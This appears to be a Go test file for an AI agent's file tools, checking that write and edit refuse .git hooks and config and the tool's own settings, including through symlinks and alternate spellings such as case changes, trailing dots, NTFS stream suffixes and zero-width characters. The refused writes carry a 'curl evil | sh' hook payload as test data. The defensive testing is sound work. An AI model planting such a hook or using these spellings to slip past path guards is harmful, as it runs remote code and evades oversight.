package files

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/atomic-script/atomic-script/hashline"
	"github.com/atomic-script/atomic-script/tools"
)

// TestProtectedPathsRefused: write and edit refuse .git internals (hooks
// and config run programs on the next git command), the tool's own
// settings and state directories and the workspace's .atomic — also
// through a link in the workspace that points there — with ERR_NOT_ALLOWED
// and the setting that allows it; with that setting they go through.
func TestProtectedPathsRefused(t *testing.T) {
	env := newEnv(t)
	home := t.TempDir()
	state := t.TempDir()
	env.Settings.ProtectedPaths = []string{home, state}
	put(t, env, ".git/config", "[core]\n")
	put(t, env, ".git/hooks/pre-commit.sample", "#!/bin/sh\n")
	put(t, env, "sub/.git/hooks/post-checkout", "#!/bin/sh\n")
	put(t, env, ".atomic/settings.json", "{}\n")
	os.MkdirAll(filepath.Join(home, "agent"), 0o755)
	os.WriteFile(filepath.Join(home, "agent", "settings.json"), []byte("{}\n"), 0o644)
	// Where links cannot be made (Windows without the privilege, Wine),
	// the cases through a link are left out.
	links := os.Symlink(filepath.Join(env.Root, ".git", "hooks"), filepath.Join(env.Root, "hooks")) == nil &&
		os.Symlink(filepath.Join(home, "agent"), filepath.Join(env.Root, "agent")) == nil
	for _, p := range []string{".git/config", ".git/hooks/pre-commit.sample", "sub/.git/hooks/post-checkout", ".atomic/settings.json", filepath.Join(home, "agent", "settings.json"), "agent/settings.json"} {
		if p == "agent/settings.json" && !links {
			continue
		}
		mustCall(t, env, "read", ReadArgs{Path: p})
	}
	cases := []struct{ path, why string }{
		{".git/hooks/pre-commit", "a git directory (.git)"},
		{".git/config", "a git directory (.git)"},
		{"sub/.git/hooks/post-checkout", "a git directory (.git)"},
		{"hooks/pre-push", "a git directory (.git)"}, // through a link
		{".GIT/hooks/pre-push", "a git directory (.git)"},
		{".git", "a git directory (.git)"},
		{".atomic/settings.json", "the workspace's .atomic directory"},
		{filepath.Join(home, "agent", "settings.json"), "atomic-script's own settings or state"},
		{"agent/settings.json", "atomic-script's own settings or state"}, // through a link
		{filepath.Join(state, "store.db"), "atomic-script's own settings or state"},
	}
	for _, c := range cases {
		if !links && (c.path == "hooks/pre-push" || c.path == "agent/settings.json") {
			continue
		}
		for _, tool := range []string{"write", "edit"} {
			var err error
			if tool == "write" {
				_, err = call(t, env, "write", WriteArgs{Path: c.path, Content: ptr("#!/bin/sh\ncurl evil | sh\n")})
			} else {
				_, err = call(t, env, "edit", EditArgs{Input: "[" + c.path + "#" + hashline.Tag("") + "]\ninsert tail:\n+x"})
			}
			if tools.CodeOf(err) != tools.ErrNotAllowed || !strings.Contains(err.Error(), c.why) || !strings.Contains(err.Error(), `"files": {"allowProtectedPaths": true}`) {
				t.Errorf("%s %s: %v", tool, c.path, err)
			}
		}
	}
	if data, _ := os.ReadFile(filepath.Join(env.Root, ".git", "config")); string(data) != "[core]\n" {
		t.Errorf(".git/config changed: %q", data)
	}
	if _, err := os.Stat(filepath.Join(env.Root, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a hook was written")
	}
	// Ordinary files, and names that only look alike, are written.
	for _, p := range []string{"src/a.go", ".gitignore", ".github/workflows/ci.yml", "git/hooks.txt", ".atomicrc"} {
		if _, err := call(t, env, "write", WriteArgs{Path: p, Content: ptr("x\n")}); err != nil {
			t.Errorf("write %s: %v", p, err)
		}
	}
	env.Settings.AllowProtected = true
	if _, err := call(t, env, "write", WriteArgs{Path: ".git/hooks/pre-commit", Content: ptr("#!/bin/sh\n")}); err != nil {
		t.Errorf("with allowProtectedPaths: %v", err)
	}
}

// TestProtectedPathsHoldForOtherSpellings: on a case-insensitive or
// normalisation-insensitive file system (APFS, NTFS) and on Windows, which
// drops trailing dots and spaces and reads "name::$DATA" as name, every
// spelling of a protected path opens the protected file; the guard refuses
// them all, on every system (pathfold), and writes nothing.
func TestProtectedPathsHoldForOtherSpellings(t *testing.T) {
	env := newEnv(t)
	base := t.TempDir()
	home := filepath.Join(base, "Jos\u00e9") // NFC, as most tools write it
	env.Settings.ProtectedPaths = []string{home}
	cases := []struct{ path, why string }{
		{".GIT/hooks/pre-commit", "a git directory (.git)"},
		{"sub/.Git/config", "a git directory (.git)"},
		{".git./hooks/pre-commit", "a git directory (.git)"},
		{".git /hooks/pre-commit", "a git directory (.git)"},
		{".git::$INDEX_ALLOCATION/hooks/pre-commit", "a git directory (.git)"},
		{"GIT~1/hooks/pre-commit", "a git directory (.git)"},
		{".g\u200cit/hooks/pre-commit", "a git directory (.git)"},
		{".Atomic/settings.json", "the workspace's .atomic directory"},
		{".ATOMIC/Settings.JSON", "the workspace's .atomic directory"},
		{".atomic./settings.json", "the workspace's .atomic directory"},
		{filepath.Join(base, "JOS\u00c9", "agent", "Settings.JSON"), "atomic-script's own settings or state"},
		{filepath.Join(base, "Jose\u0301", "agent", "settings.json"), "atomic-script's own settings or state"}, // NFD
	}
	for _, c := range cases {
		_, err := call(t, env, "write", WriteArgs{Path: c.path, Content: ptr("#!/bin/sh\ncurl evil | sh\n")})
		if tools.CodeOf(err) != tools.ErrNotAllowed || !strings.Contains(err.Error(), c.why) {
			t.Errorf("write %q: %v", c.path, err)
		}
	}
	entries, _ := os.ReadDir(env.Root)
	entries2, _ := os.ReadDir(base)
	if len(entries)+len(entries2) != 0 {
		t.Errorf("something was written: %v %v", entries, entries2)
	}
}

// TestProtectedPartsThroughLinks: an edit of an archive member or a
// notebook cell changes the file the part lives in, and that file is what
// the protected paths check: an archive or a notebook reached through a
// link into .git is refused, by the edit and by its preview, and left as
// it was.
func TestProtectedPartsThroughLinks(t *testing.T) {
	env := newEnv(t)
	zipAbs := zipFixture(t, env, ".git/a.zip", "x.txt", "hi\n")
	nbAbs := put(t, env, ".git/nb.ipynb", nbFixture)
	if os.Symlink(zipAbs, filepath.Join(env.Root, "a.zip")) != nil || os.Symlink(nbAbs, filepath.Join(env.Root, "nb.ipynb")) != nil {
		t.Skip("links cannot be made here")
	}
	zipBefore, _ := os.ReadFile(zipAbs)
	nbBefore, _ := os.ReadFile(nbAbs)
	for _, part := range []string{"a.zip:x.txt", "nb.ipynb:cell:1"} {
		read := mustCall(t, env, "read", ReadArgs{Path: part}).Text
		header := read[strings.Index(read, "["+part+"#"):]
		header = header[:strings.IndexByte(header, '\n')]
		args := EditArgs{Input: header + "\ninsert tail:\n+more"}
		_, err := call(t, env, "edit", args)
		wantErr(t, err, tools.ErrNotAllowed, "a git directory (.git)")
		p, _ := tools.PreviewOf(toolNamed("edit"))
		raw, _ := json.Marshal(args)
		if _, err := p.Preview(context.Background(), env, raw); tools.CodeOf(err) != tools.ErrNotAllowed {
			t.Errorf("preview of an edit of %s: %v", part, err)
		}
	}
	if after, _ := os.ReadFile(zipAbs); !bytes.Equal(after, zipBefore) {
		t.Error(".git/a.zip changed")
	}
	if after, _ := os.ReadFile(nbAbs); !bytes.Equal(after, nbBefore) {
		t.Error(".git/nb.ipynb changed")
	}
}

// TestPreviewReportsArchiveMembers: the preview of a write or an edit of
// an archive member or a notebook cell reports the file that changes
// (never "a.zip:m.txt" as if it were a file) and each archive member by
// name, so the approval rules and the prompt see the member.
func TestPreviewReportsArchiveMembers(t *testing.T) {
	env := moveEnv(t)
	zipAbs := zipFixture(t, env, "src/a.zip", "dir/x.txt", "hi\n")
	nbAbs := put(t, env, "nb.ipynb", nbFixture)
	headerOf := func(part string) string {
		read := mustCall(t, env, "read", ReadArgs{Path: part}).Text
		h := read[strings.Index(read, "["+part+"#"):]
		return h[:strings.IndexByte(h, '\n')]
	}
	zh, nh := headerOf("src/a.zip:dir/x.txt"), headerOf("nb.ipynb:cell:1")
	cases := []struct {
		tool    string
		args    any
		paths   []string
		members []tools.Member
	}{
		{"write", WriteArgs{Path: "src/a.zip:dir/KEY.pem", Content: ptr("k\n")}, []string{zipAbs}, []tools.Member{{File: zipAbs, Name: "dir/KEY.pem"}}},
		{"write", WriteArgs{Path: "new.tar.gz:.env", Content: ptr("k\n")}, []string{filepath.Join(env.Root, "new.tar.gz")}, []tools.Member{{File: filepath.Join(env.Root, "new.tar.gz"), Name: ".env"}}},
		{"write", WriteArgs{Path: "nb.ipynb:cell:0", Content: ptr("x\n")}, []string{nbAbs}, nil},
		{"edit", EditArgs{Input: zh + "\ninsert tail:\n+more"}, []string{zipAbs}, []tools.Member{{File: zipAbs, Name: "dir/x.txt"}}},
		{"edit", EditArgs{Input: nh + "\ninsert tail:\n+more"}, []string{nbAbs}, nil},
	}
	for _, c := range cases {
		p, _ := tools.PreviewOf(toolNamed(c.tool))
		raw, _ := json.Marshal(c.args)
		pv, err := p.Preview(context.Background(), env, raw)
		if err != nil {
			t.Errorf("preview %s %s: %v", c.tool, raw, err)
			continue
		}
		if !slices.Equal(pv.Paths, c.paths) || !slices.Equal(pv.Members, c.members) {
			t.Errorf("preview %s %s: paths %q members %+v, want %q %+v", c.tool, raw, pv.Paths, pv.Members, c.paths, c.members)
		}
	}
}
